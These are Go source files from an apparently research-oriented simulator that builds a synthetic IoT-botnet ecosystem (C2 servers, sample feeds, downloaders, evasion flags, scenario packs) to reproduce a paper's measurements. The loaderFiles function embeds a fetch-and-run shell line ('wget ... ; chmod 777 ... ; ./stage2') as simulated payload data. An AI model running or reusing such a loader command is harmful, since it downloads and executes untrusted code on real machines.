		}
		gt.C2s = append(gt.C2s, GroundTruthC2{
			Address: cs.Address, IP: cs.IP.String(), Port: cs.Port,
			Domain: cs.Domain, ASN: cs.ASN, Family: cs.Family,
			Birth: cs.Birth, Death: cs.Death, Samples: len(cs.SampleIdx),
			AttackLauncher: cs.AttackLauncher, Elusive: cs.Elusive,
			Downloader: cs.Downloader,
		})
	}
	for _, p := range w.Attacks {
		gt.Attacks = append(gt.Attacks, GroundTruthAttack{
			C2: p.C2Address, When: p.When,
			Attack: p.Command.Attack.String(),
			Target: p.Command.Target.String(), Port: p.Command.Port,
		})
	}
	return gt, nil
}

// WriteGroundTruth writes the answer key as indented JSON.
func (w *World) WriteGroundTruth(out io.Writer) error {
	gt, err := w.ExportGroundTruth()
	if err != nil {
		return err
	}
	enc := json.NewEncoder(out)
	enc.SetIndent("", "  ")
	return enc.Encode(gt)
}
