package world

import (
	"fmt"
	"math/rand"
	"net/netip"
	"sort"
	"time"

	"malnet/internal/binfmt"
	"malnet/internal/detrand"
	"malnet/internal/geo"
	"malnet/internal/vuln"
)

// sampleSeed derives the per-sample RNG seed. Hash-derived (rather
// than linear in the feed index) so a sample's binary content is a
// pure function of (world seed, index) with no correlation between
// neighboring indices.
func sampleSeed(worldSeed int64, idx int) int64 {
	return detrand.Seed(worldSeed, "sample", fmt.Sprintf("%d", idx))
}

// dayKey buckets times by UTC day.
func dayKey(t time.Time) string { return t.Format("2006-01-02") }

// plannedC2 is a minted server with a binding plan: how many more
// binaries will reference it and across what span. Planning the
// multiplicity up front is what lets the generated population hit
// Figure 5's heavy-tailed samples-per-C2 histogram and Figure 2's
// one-day-dominated observed lifespans at the same time.
type plannedC2 struct {
	spec  *C2Spec
	quota int
	// mintDay anchors the reference window.
	mintDay time.Time
	// span is how far past mintDay references may land; 0 keeps
	// the C2's observed lifespan at one day.
	span time.Duration
}

// populationState threads the generation loop.
type populationState struct {
	cfg Config
	rng *rand.Rand
	reg *geo.Registry

	samples []*SampleSpec
	c2s     map[string]*C2Spec
	order   []*C2Spec // creation order
	dns     map[string]netip.Addr

	// open C2s with remaining binding quota, per family.
	open map[string][]*plannedC2
	// campaigns: operators re-pack one C2 config into many
	// binaries; samples of the same family and day mostly share a
	// config, and sticky-backed configs recur across days.
	campaigns map[string][]*campaign

	asCursor   map[int]int // ASN -> next address index
	fillerASNs []int       // registered long-tail ASes
	dnsSerial  int

	// downloader pools (§3.1: 47 distinct, 35 co-located with C2s)
	coloDownloaders  []string
	aloneDownloaders []string
}

// sampleDates spreads cfg.TotalSamples across the study calendar
// with the Figure 1 volume shape.
func sampleDates(cfg Config, rng *rand.Rand) []time.Time {
	weeks := Calendar()
	weights := make([]float64, len(weeks))
	var total float64
	for i, w := range weeks {
		weights[i] = weekWeight(w.Num)
		total += weights[i]
	}
	counts := make([]int, len(weeks))
	assigned := 0
	for i := range weeks {
		counts[i] = int(float64(cfg.TotalSamples) * weights[i] / total)
		assigned += counts[i]
	}
	for i := 0; assigned < cfg.TotalSamples; i, assigned = (i+1)%len(weeks), assigned+1 {
		counts[i]++
	}
	var dates []time.Time
	for i, w := range weeks {
		for j := 0; j < counts[i]; j++ {
			dates = append(dates, w.Start.AddDate(0, 0, rng.Intn(7)))
		}
	}
	sort.Slice(dates, func(i, j int) bool { return dates[i].Before(dates[j]) })
	return dates
}

// pickFamily draws a family by share.
func pickFamily(rng *rand.Rand) (name string, p2p bool) {
	r := rng.Float64()
	acc := 0.0
	for _, f := range familyShare {
		acc += f.share
		if r < acc {
			return f.name, f.p2p
		}
	}
	last := familyShare[len(familyShare)-1]
	return last.name, last.p2p
}

// asWeightsAt returns the C2-hosting AS selection table at a date:
// Table 2's top ten carry 69.7 % combined, the big clouds a sliver,
// and the long tail the rest. From week 28 the IP SERVER LLC and
// Apeiron weights surge (§3.1's Figure 1 observation).
func (ps *populationState) asWeightsAt(date time.Time) ([]int, []float64) {
	week := WeekOf(date)
	boost := 1.0
	if week >= 28 {
		boost = 4.0
	}
	asns := []int{36352, 211252, 14061, 53667, 202306, 399471, 16276, 44812, 139884, 50673}
	weights := []float64{0.115, 0.055, 0.095, 0.07, 0.06, 0.065, 0.09, 0.055 * boost, 0.035 * boost, 0.057}
	// Big clouds (Appendix A).
	asns = append(asns, 15169, 16509, 37963)
	weights = append(weights, 0.006, 0.006, 0.004)
	// Long tail: whatever filler ASes the registry actually holds.
	tail := len(ps.fillerASNs)
	for _, asn := range ps.fillerASNs {
		asns = append(asns, asn)
		weights = append(weights, 0.31/float64(tail))
	}
	return asns, weights
}

func pickWeighted(rng *rand.Rand, weights []float64) int {
	total := 0.0
	for _, w := range weights {
		total += w
	}
	r := rng.Float64() * total
	for i, w := range weights {
		r -= w
		if r < 0 {
			return i
		}
	}
	return len(weights) - 1
}

// allocIP hands out the next unused address of an AS.
func (ps *populationState) allocIP(asn int) netip.Addr {
	as := ps.reg.ByASN(asn)
	idx := ps.asCursor[asn]
	ps.asCursor[asn] = idx + 1
	return as.AddrAt(idx)
}

// drawMultiplicity rolls one C2's planned binding count per the
// Figure 5 tiers: ~40 % single-binary, ~45 % with 2–8, ~15 % with
// 11–16.
func drawMultiplicity(rng *rand.Rand) (quota int, span time.Duration) {
	day := 24 * time.Hour
	r := rng.Float64()
	switch {
	case r < 0.38:
		return 1, 0
	case r < 0.78:
		quota = 2 + rng.Intn(7)
		// Most shared C2s are single-campaign, same-day artifacts;
		// a fifth stay referenced across days.
		if rng.Float64() < 0.15 {
			span = time.Duration(2+rng.Intn(6)) * day
		}
		return quota, span
	default:
		quota = 11 + rng.Intn(6)
		// The heavy tail rides long-lived infrastructure; a third
		// still burn out within a day.
		if rng.Float64() < 0.67 {
			span = time.Duration(2+rng.Intn(9)) * day
		}
		return quota, span
	}
}

// newC2 mints a C2 spec anchored at date.
func (ps *populationState) newC2(family, variant string, date time.Time) *plannedC2 {
	rng := ps.rng
	asns, weights := ps.asWeightsAt(date)
	asn := asns[pickWeighted(rng, weights)]
	ip := ps.allocIP(asn)
	ports := familyC2Ports(family)
	port := ports[rng.Intn(len(ports))]

	cs := &C2Spec{
		IP: ip, Port: port, ASN: asn,
		Family: family, Variant: variant,
	}
	if rng.Float64() < ps.cfg.DNSShare {
		ps.dnsSerial++
		tlds := []string{"xyz", "top", "cc", "net", "online"}
		cs.IsDNS = true
		cs.Domain = fmt.Sprintf("cnc%03d.botnet-%s.%s", ps.dnsSerial, family, tlds[rng.Intn(len(tlds))])
		cs.Address = fmt.Sprintf("%s:%d", cs.Domain, port)
		ps.dns[cs.Domain] = ip
	} else {
		cs.Address = fmt.Sprintf("%s:%d", ip, port)
	}

	quota, span := drawMultiplicity(rng)
	day := 24 * time.Hour
	rd := func(lo, hi float64) time.Duration {
		return time.Duration((lo + rng.Float64()*(hi-lo)) * float64(day))
	}
	cs.Sticky = span > 0
	if cs.Sticky {
		if rng.Float64() < ps.cfg.StickyAliveP {
			cs.Birth = date.Add(-rd(0, 1))
			cs.Death = date.Add(span + rd(0.5, 3))
		} else {
			cs.Birth = date.Add(-rd(10, 20))
			cs.Death = date.Add(-rd(0, 5))
		}
	} else {
		if rng.Float64() < ps.cfg.FreshAliveP {
			cs.Birth = date.Add(-rd(0, 2))
			cs.Death = date.Add(rd(0.5, 2))
		} else {
			cs.Birth = date.Add(-rd(3, 6))
			cs.Death = cs.Birth.Add(rd(0.5, 2))
		}
	}
	ps.c2s[cs.Address] = cs
	ps.order = append(ps.order, cs)
	p := &plannedC2{spec: cs, quota: quota, mintDay: date, span: span}
	ps.open[family] = append(ps.open[family], p)
	return p
}

// pickC2 selects a C2 address for one ref slot: an open planned C2
// whose reference window covers the date, else a fresh mint.
func (ps *populationState) pickC2(family, variant string, date time.Time, used map[string]bool) *C2Spec {
	open := ps.open[family]
	// Compact the pool: drop exhausted or expired entries.
	kept := open[:0]
	var candidates []*plannedC2
	for _, p := range open {
		if p.quota <= 0 {
			continue
		}
		if date.Sub(p.mintDay) > p.span {
			// Window closed; surplus quota is abandoned (servers
			// fall out of fashion).
			continue
		}
		kept = append(kept, p)
		if !used[p.spec.Address] {
			candidates = append(candidates, p)
		}
	}
	ps.open[family] = kept
	if len(candidates) > 0 {
		// Weight by remaining quota so big-multiplicity C2s fill.
		weights := make([]float64, len(candidates))
		for i, p := range candidates {
			weights[i] = float64(p.quota * p.quota)
		}
		p := candidates[pickWeighted(ps.rng, weights)]
		p.quota--
		return p.spec
	}
	p := ps.newC2(family, variant, date)
	p.quota--
	return p.spec
}

// campaign is one reusable C2 configuration.
type campaign struct {
	born  time.Time
	c2s   []*C2Spec
	packs int
}

// pickCampaign returns a campaign to re-pack for a family sample, or
// nil. Same-day campaigns dominate; older ones stay eligible only
// while backed by a long-lived (sticky) server, which is what pushes
// those servers past ten binaries.
func (ps *populationState) pickCampaign(family string, date time.Time) *campaign {
	var pool []*campaign
	var weights []float64
	for _, c := range ps.campaigns[family] {
		age := date.Sub(c.born)
		if age < 0 || age > 40*24*time.Hour {
			continue
		}
		w := float64(c.packs + 1)
		if age >= 24*time.Hour {
			stickyBacked := false
			for _, cs := range c.c2s {
				if cs.Sticky {
					stickyBacked = true
				}
			}
			if !stickyBacked {
				continue
			}
			w *= 0.22
		}
		pool = append(pool, c)
		weights = append(weights, w)
	}
	if len(pool) == 0 {
		return nil
	}
	return pool[pickWeighted(ps.rng, weights)]
}

// bind records that sample idx (published at date) references cs.
func bind(cs *C2Spec, idx int, date time.Time) {
	cs.SampleIdx = append(cs.SampleIdx, idx)
	if cs.FirstRef.IsZero() || date.Before(cs.FirstRef) {
		cs.FirstRef = date
	}
	if date.After(cs.LastRef) {
		cs.LastRef = date
	}
}

// exploitKit draws 2–4 vulnerabilities weighted by Table 4's sample
// counts.
func exploitKit(rng *rand.Rand) []string {
	catalog := vuln.Catalog()
	weights := make([]float64, len(catalog))
	for i, v := range catalog {
		weights[i] = float64(v.PaperSamples)
	}
	n := 2 + rng.Intn(3)
	picked := map[string]bool{}
	var kit []string
	for len(kit) < n {
		v := catalog[pickWeighted(rng, weights)]
		if picked[v.Key] {
			continue
		}
		picked[v.Key] = true
		kit = append(kit, v.Key)
	}
	return kit
}

// loaderName draws per Figure 9's frequencies.
func loaderName(rng *rand.Rand) string {
	names := vuln.LoaderNames()
	weights := make([]float64, len(names))
	for i, n := range names {
		weights[i] = float64(n.Count)
	}
	return names[pickWeighted(rng, weights)].Name
}

// downloaderFor assigns an exploit sample its stage-one server,
// keeping the global pools at the paper's 35 co-located + 12
// standalone.
func (ps *populationState) downloaderFor(firstC2 *C2Spec) string {
	rng := ps.rng
	colo := rng.Float64() < 0.75
	if colo {
		if len(ps.coloDownloaders) < 35 && firstC2 != nil {
			addr := firstC2.IP.String() + ":80"
			firstC2.Downloader = true
			ps.coloDownloaders = append(ps.coloDownloaders, addr)
			return addr
		}
		if len(ps.coloDownloaders) > 0 {
			return ps.coloDownloaders[rng.Intn(len(ps.coloDownloaders))]
		}
	}
	if len(ps.aloneDownloaders) < 12 {
		// Standalone loader host in the filler space.
		asn := ps.fillerASNs[rng.Intn(len(ps.fillerASNs))]
		addr := ps.allocIP(asn).String() + ":80"
		ps.aloneDownloaders = append(ps.aloneDownloaders, addr)
		return addr
	}
	return ps.aloneDownloaders[rng.Intn(len(ps.aloneDownloaders))]
}

// generatePopulation builds the feed and C2 ground truth.
func generatePopulation(cfg Config, reg *geo.Registry, rng *rand.Rand) *populationState {
	ps := &populationState{
		cfg: cfg, rng: rng, reg: reg,
		c2s:      map[string]*C2Spec{},
		dns:      map[string]netip.Addr{},
		open:     map[string][]*plannedC2{},
		asCursor: map[int]int{},
	}
	for _, as := range reg.All() {
		if as.ASN >= 400000 {
			ps.fillerASNs = append(ps.fillerASNs, as.ASN)
		}
	}
	dates := sampleDates(cfg, rng)
	for idx, date := range dates {
		family, p2p := pickFamily(rng)
		variant := "v1"
		if rng.Intn(2) == 1 {
			variant = "v2"
		}
		s := &SampleSpec{
			Index: idx, Date: date,
			Family: family, Variant: variant, P2P: p2p,
			Seed: sampleSeed(cfg.Seed, idx),
		}
		// Anti-sandbox gates (§6f): ~8 % of samples defeat even
		// InetSim (capping the sandbox activation rate near the
		// paper's 90 %), another ~5 % are connectivity-checkers
		// InetSim wins against.
		if !p2p {
			switch r := rng.Float64(); {
			case r < 0.08:
				s.Evasion = "strict"
			case r < 0.13:
				s.Evasion = "connectivity"
			}
		}
		if !p2p {
			var firstC2 *C2Spec
			if camp := ps.pickCampaign(family, date); camp != nil && rng.Float64() < 0.60 {
				// Re-pack an existing config. Across days only the
				// long-lived servers carry over (burned one-day
				// infra drops out of rebuilt configs, preserving
				// its one-day observed lifespan).
				camp.packs++
				sameDay := date.Sub(camp.born) < 24*time.Hour
				for _, c := range camp.c2s {
					if !sameDay && !c.Sticky {
						continue
					}
					bind(c, idx, date)
					s.C2Refs = append(s.C2Refs, c.Address)
					if firstC2 == nil {
						firstC2 = c
					}
				}
			} else {
				nRefs := cfg.RefsPerSampleMin + rng.Intn(cfg.RefsPerSampleMax-cfg.RefsPerSampleMin+1)
				used := map[string]bool{}
				camp := &campaign{born: date}
				for i := 0; i < nRefs; i++ {
					c := ps.pickC2(family, variant, date, used)
					if used[c.Address] {
						continue
					}
					used[c.Address] = true
					bind(c, idx, date)
					s.C2Refs = append(s.C2Refs, c.Address)
					camp.c2s = append(camp.c2s, c)
					if firstC2 == nil {
						firstC2 = c
					}
				}
				if ps.campaigns == nil {
					ps.campaigns = map[string][]*campaign{}
				}
				ps.campaigns[family] = append(ps.campaigns[family], camp)
			}
			// Proliferation behavior.
			if (family == "mirai" || family == "gafgyt") && rng.Float64() < cfg.ExploitShare/0.64 {
				// 0.64 = combined mirai+gafgyt share, so the overall
				// exploit-armed rate lands at ExploitShare.
				kit := exploitKit(rng)
				s.ExploitIDs = kit
				byKey := vuln.ByKey()
				portSet := map[uint16]bool{23: true}
				for _, k := range kit {
					portSet[byKey[k].Port] = true
				}
				for p := range portSet {
					s.ScanPorts = append(s.ScanPorts, p)
				}
				sort.Slice(s.ScanPorts, func(i, j int) bool { return s.ScanPorts[i] < s.ScanPorts[j] })
				s.LoaderName = loaderName(rng)
				s.DownloaderAddr = ps.downloaderFor(firstC2)
			} else if rng.Float64() < 0.5 {
				s.ScanPorts = []uint16{23, 2323}
			}
		} else {
			s.ScanPorts = []uint16{23}
		}
		ps.samples = append(ps.samples, s)
	}
	ps.rebalanceSharing()
	// Decoy feed entries for other architectures (~8 % on top of
	// the MIPS population): real feeds are mixed and the collection
	// filter (§2.2) must skip non-MIPS 32B downloads.
	decoys := cfg.TotalSamples * 8 / 100
	for i := 0; i < decoys; i++ {
		date := dates[rng.Intn(len(dates))]
		arch := binfmt.ArchARM32LE
		if rng.Intn(2) == 1 {
			arch = binfmt.ArchX86_64
		}
		ps.samples = append(ps.samples, &SampleSpec{
			Index: len(ps.samples), Date: date,
			Family: "gafgyt", Variant: "v1",
			ForeignArch: arch,
			Seed:        sampleSeed(cfg.Seed, len(ps.samples)),
		})
	}
	return ps
}

// rebalanceSharing is a repair pass enforcing Figure 5's
// samples-per-C2 histogram: the emergent campaign/pool process gets
// the right scale, and this pass moves the tier shares onto the
// paper's ~40 % singles / ~20 % >10 split by adding same-day (and,
// for sticky C2s, in-window) bindings. It never removes bindings,
// so every other invariant (lifespans, AS mix, liveness) survives.
func (ps *populationState) rebalanceSharing() {
	rng := ps.rng
	// Index samples by family and day for binding additions.
	byFamDay := map[string]map[string][]*SampleSpec{}
	for _, s := range ps.samples {
		if s.P2P || s.ForeignArch != binfmt.ArchMIPS32BE {
			continue
		}
		if byFamDay[s.Family] == nil {
			byFamDay[s.Family] = map[string][]*SampleSpec{}
		}
		dk := dayKey(s.Date)
		byFamDay[s.Family][dk] = append(byFamDay[s.Family][dk], s)
	}
	hasRef := func(s *SampleSpec, addr string) bool {
		for _, r := range s.C2Refs {
			if r == addr {
				return true
			}
		}
		return false
	}
	// addBindings grows cs to target multiplicity using samples
	// published within [FirstRef, FirstRef+window].
	addBindings := func(cs *C2Spec, target int, window time.Duration) {
		for day := 0; day <= int(window/(24*time.Hour)); day++ {
			date := cs.FirstRef.AddDate(0, 0, day)
			for _, s := range byFamDay[cs.Family][dayKey(date)] {
				if len(cs.SampleIdx) >= target {
					return
				}
				if len(s.C2Refs) >= ps.cfg.RefsPerSampleMax+1 || hasRef(s, cs.Address) {
					continue
				}
				s.C2Refs = append(s.C2Refs, cs.Address)
				bind(cs, s.Index, s.Date)
			}
		}
	}

	var singles, total int
	for _, cs := range ps.c2s {
		if k := len(cs.SampleIdx); k > 0 {
			total++
			if k == 1 {
				singles++
			}
		}
	}
	wantSingles := int(0.40 * float64(total))
	wantBig := int(0.17 * float64(total))

	// Pass 1: convert excess singles into the 2-8 tier (same-day
	// additions keep their one-day observed lifespan).
	for _, cs := range ps.order {
		if singles <= wantSingles {
			break
		}
		if len(cs.SampleIdx) != 1 || cs.AttackLauncher || cs.Elusive {
			continue
		}
		before := len(cs.SampleIdx)
		addBindings(cs, 2+rng.Intn(6), 0)
		if len(cs.SampleIdx) > before {
			singles--
		}
	}
	// Pass 2: promote sticky mid-tier C2s into the >10 tier using
	// their in-window days.
	big := 0
	for _, cs := range ps.c2s {
		if len(cs.SampleIdx) > 10 {
			big++
		}
	}
	for _, cs := range ps.order {
		if big >= wantBig {
			break
		}
		k := len(cs.SampleIdx)
		if k < 2 || k > 10 || !cs.Sticky || cs.AttackLauncher || cs.Elusive {
			continue
		}
		window := cs.Death.Sub(cs.FirstRef)
		if window < 24*time.Hour {
			window = 5 * 24 * time.Hour
		}
		addBindings(cs, 11+rng.Intn(6), window)
		if len(cs.SampleIdx) > 10 {
			big++
		}
	}
}
