package world

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"math/rand"
	"net/netip"
	"time"

	"malnet/internal/binfmt"
	"malnet/internal/c2"
	"malnet/internal/detrand"
	"malnet/internal/geo"
	"malnet/internal/intel"
	"malnet/internal/simclock"
	"malnet/internal/simnet"
)

// Generate builds a complete world from the configuration.
func Generate(cfg Config) *World {
	if cfg.TotalSamples <= 0 {
		scen := cfg.Scenario
		cfg = DefaultConfig(cfg.Seed)
		cfg.Scenario = scen
	}
	cfg.Scenario.Defaults()
	clock := simclock.New(StudyStart().Add(-24 * time.Hour))
	netCfg := simnet.DefaultConfig()
	netCfg.Seed = cfg.Seed
	n := simnet.New(clock, netCfg)
	rng := rand.New(rand.NewSource(cfg.Seed))

	reg := geo.StandardRegistry(cfg.TotalASes-1, rng)
	// The Czech hosting AS §5's attack issuers need (the standard
	// registry carries no CZ member).
	reg.Register(&geo.AS{
		ASN: czASN, Name: "WEDOS Internet", Country: "CZ",
		Type: geo.TypeHosting, AntiDDoS: true,
		Prefixes: []netip.Prefix{netip.MustParsePrefix("46.28.0.0/16")},
	})

	ps := generatePopulation(cfg, reg, rng)
	attacks := ps.planAttacks(reg)
	// Scenario packs append to the finished base population on their
	// own RNG streams: the base world is byte-identical with packs on
	// or off. A bad scenario config is a programming error here — the
	// CLI and StudyConfig.Validate reject it before generation.
	scenAttacks, err := ps.generateScenarios(reg)
	if err != nil {
		panic("world: " + err.Error())
	}
	attacks = append(attacks, scenAttacks...)

	w := &World{
		Cfg:     cfg,
		Clock:   clock,
		Net:     n,
		Geo:     reg,
		Intel:   intel.NewService(cfg.Seed),
		Samples: ps.samples,
		C2s:     ps.c2s,
		Servers: map[string]*c2.Server{},
		DNSZone: ps.dns,
		Attacks: attacks,
	}

	// Threat-intelligence registrations: the ecosystem learns about
	// each C2 relative to the first public binary referring to it.
	for _, cs := range ps.c2s {
		if len(cs.SampleIdx) == 0 {
			continue
		}
		host, kind := cs.IP.String(), intel.KindIP
		if cs.IsDNS {
			host, kind = cs.Domain, intel.KindDNS
		}
		w.Intel.RegisterC2(host, kind, cs.FirstRef)
	}

	// Materialize the C2 servers.
	for _, cs := range ps.order {
		w.installServer(cs)
	}

	// Downloader-only hosts (the 12 addresses §3.1 finds that are
	// not C2s).
	for _, addr := range ps.aloneDownloaders {
		ap, err := parseAddr(addr)
		if err != nil {
			continue
		}
		host := n.AddHost(ap.IP)
		c2.ServeDownloader(host, ap.Port, loaderFiles())
	}

	// Schedule ground-truth attacks.
	for _, plan := range attacks {
		srv := w.Servers[plan.C2Address]
		if srv == nil {
			continue
		}
		srv.ScheduleAttackEvery(plan.When, plan.Command, plan.Retries, 15*time.Minute)
	}

	w.plantProbeWorld(ps)
	w.installCanaries()
	return w
}

// installCanaries stands up the benign well-known hosts the
// anti-sandbox gates check (§6f): two canary names resolving to
// distinct addresses in Google's space, each answering HTTP.
func (w *World) installCanaries() {
	google := w.Geo.ByASN(15169)
	for i, name := range []string{"www.google.com", "www.bing.com"} {
		ip := google.AddrAt(9000 + i)
		w.DNSZone[name] = ip
		host := w.Net.AddHost(ip)
		host.ServeBanner(80, "HTTP/1.1 200 OK\r\nServer: gws\r\nContent-Length: 0\r\n\r\n")
	}
}

// parseAddr parses "ip:port".
func parseAddr(s string) (simnet.Addr, error) {
	var a, b, c, d int
	var port int
	if _, err := fmt.Sscanf(s, "%d.%d.%d.%d:%d", &a, &b, &c, &d, &port); err != nil {
		return simnet.Addr{}, err
	}
	return simnet.Addr{
		IP:   netip.AddrFrom4([4]byte{byte(a), byte(b), byte(c), byte(d)}),
		Port: uint16(port),
	}, nil
}

// loaderFiles returns the downloadable first-stage payloads.
func loaderFiles() map[string][]byte {
	files := map[string][]byte{}
	for _, ln := range loaderCatalog {
		files["/"+ln] = []byte("#!/bin/sh\n# loader stage one\nwget http://next/stage2; chmod 777 stage2; ./stage2\n")
	}
	return files
}

var loaderCatalog = []string{"t8UsA2.sh", "Tsunamix6", "ddns.sh", "8UsA.sh", "wget.sh", "zyxel.sh", "jaws.sh", "bot.sh"}

// installServer creates the protocol server for a C2 spec.
func (w *World) installServer(cs *C2Spec) {
	scfg := c2.ServerConfig{
		Family: cs.Family,
		Addr:   simnet.Addr{IP: cs.IP, Port: cs.Port},
		Birth:  cs.Birth,
		Death:  cs.Death,
	}
	if cs.Elusive {
		scfg.Duty = c2.DefaultDutyCycle(int64(detrand.Hash64(w.Cfg.Seed, "duty", cs.Address)))
	} else {
		// Ordinary C2s are reachable whenever alive; their
		// short lives carry the ephemerality (§3.2). The harsh
		// duty cycle belongs to the probed D-PC2 population.
		scfg.AlwaysOn = true
	}
	if cs.Downloader {
		scfg.Downloader = loaderFiles()
	}
	if cs.RelayUpstream != "" {
		if up := w.C2s[cs.RelayUpstream]; up != nil {
			scfg.Relay = &c2.RelayConfig{
				Upstream: simnet.Addr{IP: up.IP, Port: up.Port},
			}
		}
	}
	w.Servers[cs.Address] = c2.NewServer(w.Net, scfg)
}

// plantProbeWorld sets up the D-PC2 study area: six /24 subnets
// inside top-hosting address space, seven elusive C2 servers on the
// Table 5 ports, and a handful of well-known-banner hosts the
// ethics filter must exclude.
func (w *World) plantProbeWorld(ps *populationState) {
	w.ProbeStart = isoWeekStart(2021, 45)
	bases := []string{"60.0.200.0/24", "60.2.200.0/24", "60.3.200.0/24", "60.5.200.0/24", "60.7.200.0/24", "60.9.200.0/24"}
	for _, b := range bases {
		w.ProbeSubnets = append(w.ProbeSubnets, simnet.SubnetFrom(b))
	}
	rng := rand.New(rand.NewSource(w.Cfg.Seed ^ 0x9c2))
	probePorts := []uint16{1312, 666, 5555, 3074, 81, 6969, 1014}
	families := []string{"mirai", "mirai", "mirai", "mirai", "gafgyt", "gafgyt", "gafgyt"}
	for i := 0; i < 7; i++ {
		subnet := w.ProbeSubnets[i%len(w.ProbeSubnets)]
		ip := subnet.HostAt(20 + i*17)
		port := probePorts[i%len(probePorts)]
		cs := &C2Spec{
			Address: fmt.Sprintf("%s:%d", ip, port),
			IP:      ip, Port: port,
			Family:  families[i],
			Variant: "v1",
			Birth:   w.ProbeStart.Add(-24 * time.Hour),
			Death:   w.ProbeStart.Add(16 * 24 * time.Hour),
			Elusive: true,
		}
		if as, ok := w.Geo.Lookup(ip); ok {
			cs.ASN = as.ASN
		}
		w.C2s[cs.Address] = cs
		w.installServer(cs)
		w.PlantedElusive++
		_ = rng
	}
	// Banner hosts: ordinary web/ssh services inside the subnets.
	banners := []string{
		"HTTP/1.1 200 OK\r\nServer: Apache/2.4.41\r\n\r\n",
		"HTTP/1.1 200 OK\r\nServer: nginx/1.18.0\r\n\r\n",
		"SSH-2.0-OpenSSH_7.4\r\n",
	}
	for i := 0; i < 9; i++ {
		subnet := w.ProbeSubnets[i%len(w.ProbeSubnets)]
		host := w.Net.AddHost(subnet.HostAt(100 + i*11))
		host.ServeBanner(probePorts[i%len(probePorts)], banners[i%len(banners)])
	}
}

// Binary returns the encoded bytes of a sample, generating them on
// first use.
func (s *SampleSpec) Binary() ([]byte, error) {
	if s.raw != nil {
		return s.raw, nil
	}
	if s.ForeignArch != binfmt.ArchMIPS32BE {
		raw, err := binfmt.EncodeForeign(s.ForeignArch, rand.New(rand.NewSource(s.Seed)))
		if err != nil {
			return nil, err
		}
		s.raw = raw
		bin := sha256Hex(raw)
		s.sha = bin
		return raw, nil
	}
	cfg := binfmt.BotConfig{
		Family:         s.Family,
		Variant:        s.Variant,
		C2Addrs:        s.C2Refs,
		P2P:            s.P2P,
		ScanPorts:      s.ScanPorts,
		ExploitIDs:     s.ExploitIDs,
		LoaderName:     s.LoaderName,
		DownloaderAddr: s.DownloaderAddr,
		Evasion:        s.Evasion,
	}
	raw, err := binfmt.Encode(cfg, rand.New(rand.NewSource(s.Seed)), nil)
	if err != nil {
		return nil, fmt.Errorf("world: encoding sample %d: %w", s.Index, err)
	}
	s.raw = raw
	bin, err := binfmt.Parse(raw)
	if err != nil {
		return nil, err
	}
	s.sha = bin.SHA256
	return raw, nil
}

// sha256Hex hashes raw bytes (foreign decoys bypass binfmt.Parse).
func sha256Hex(raw []byte) string {
	sum := sha256.Sum256(raw)
	return hex.EncodeToString(sum[:])
}

// SHA256 returns the sample's hash, encoding the binary if needed.
func (s *SampleSpec) SHA256() (string, error) {
	if s.sha == "" {
		if _, err := s.Binary(); err != nil {
			return "", err
		}
	}
	return s.sha, nil
}

// PublishSample registers the sample with the scanning ecosystem —
// the moment it lands on VT/MalwareBazaar. The study driver calls
// this when pulling the day's feed.
func (w *World) PublishSample(s *SampleSpec) error {
	sha, err := s.SHA256()
	if err != nil {
		return err
	}
	w.Intel.RegisterSample(sha, s.Family, s.Date)
	return nil
}

// ReplayFeedThrough re-publishes every sample dated on or before day,
// in feed order, and returns how many were published. It rebuilds the
// intel service's registration state when a study resumes from a
// checkpoint: the live run published each day's feed as it processed
// it, and registration is the only publication side effect, so
// replaying the publications reproduces the intel state exactly.
// Per-sample errors are ignored to mirror the live path — a sample
// whose binary fails to encode was never published there either.
func (w *World) ReplayFeedThrough(day time.Time) int {
	n := 0
	dk := dayKey(day)
	for _, s := range w.Samples {
		if dayKey(s.Date) > dk {
			continue
		}
		if w.PublishSample(s) == nil {
			n++
		}
	}
	return n
}

// FeedOn returns the samples published on a given day.
func (w *World) FeedOn(day time.Time) []*SampleSpec {
	var out []*SampleSpec
	dk := dayKey(day)
	for _, s := range w.Samples {
		if dayKey(s.Date) == dk {
			out = append(out, s)
		}
	}
	return out
}
