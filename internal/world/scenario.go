package world

import (
	"encoding/json"
	"fmt"
	"math/rand"
	"net/netip"
	"sort"
	"time"

	"malnet/internal/c2"
	"malnet/internal/c2/spec"
	"malnet/internal/detrand"
	"malnet/internal/geo"
)

// Scenario packs extend the paper's seven-family population with
// spec-driven C2 shapes the original taxonomy doesn't cover: a
// P2P relay mesh (bots dial relay nodes that forward commands from a
// hidden origin) and DGA-style endpoint churn (the C2 domain rotates
// on a seed-deterministic schedule). Pack generation runs strictly
// AFTER the base population and attack plan are laid out, on its own
// detrand-derived RNG streams, so enabling a pack never perturbs a
// single byte of the base world.

// P2PScenario tunes the relay-mesh pack (families whose spec declares
// Topology "p2p-relay").
type P2PScenario struct {
	// Cells is the number of independent relay meshes, each with its
	// own hidden origin C2.
	Cells int `json:"cells,omitempty"`
	// RelaysPerCell is the relay fan-out under each origin.
	RelaysPerCell int `json:"relays_per_cell,omitempty"`
	// Samples is the number of pack binaries added to the feed.
	Samples int `json:"samples,omitempty"`
}

// DGAScenario tunes the endpoint-churn pack (families whose spec
// declares Topology "dga").
type DGAScenario struct {
	// RotateDays is the rotation period of the generated domains.
	RotateDays int `json:"rotate_days,omitempty"`
	// Windows is the number of consecutive rotation windows.
	Windows int `json:"windows,omitempty"`
	// Samples is the number of pack binaries added to the feed.
	Samples int `json:"samples,omitempty"`
}

// ScenarioConfig selects and tunes the optional scenario packs. The
// zero value disables everything; it is embedded in both world.Config
// and core.StudyConfig so the study fingerprint covers it and a
// resumed run refuses a changed scenario.
type ScenarioConfig struct {
	// Families enables packs by family name; each must resolve to a
	// registered protocol (or a SpecOverrides entry). The spec's
	// Topology picks the pack shape.
	Families []string `json:"families,omitempty"`
	// P2P tunes the relay-mesh pack.
	P2P P2PScenario `json:"p2p"`
	// DGA tunes the endpoint-churn pack.
	DGA DGAScenario `json:"dga"`
	// SpecOverrides maps family name -> ProtocolSpec JSON, letting a
	// scenario introduce a custom spec-driven family without code.
	// Each spec must compile and carry its key as Name; it is
	// registered at world generation (idempotently — re-registering
	// a byte-identical spec is a no-op, a conflicting one an error).
	SpecOverrides map[string]string `json:"spec_overrides,omitempty"`
}

// IsZero reports whether the config is the all-disabled zero value.
func (sc *ScenarioConfig) IsZero() bool {
	return len(sc.Families) == 0 && len(sc.SpecOverrides) == 0 &&
		sc.P2P == (P2PScenario{}) && sc.DGA == (DGAScenario{})
}

// Enabled reports whether family's pack is switched on.
func (sc *ScenarioConfig) Enabled(family string) bool {
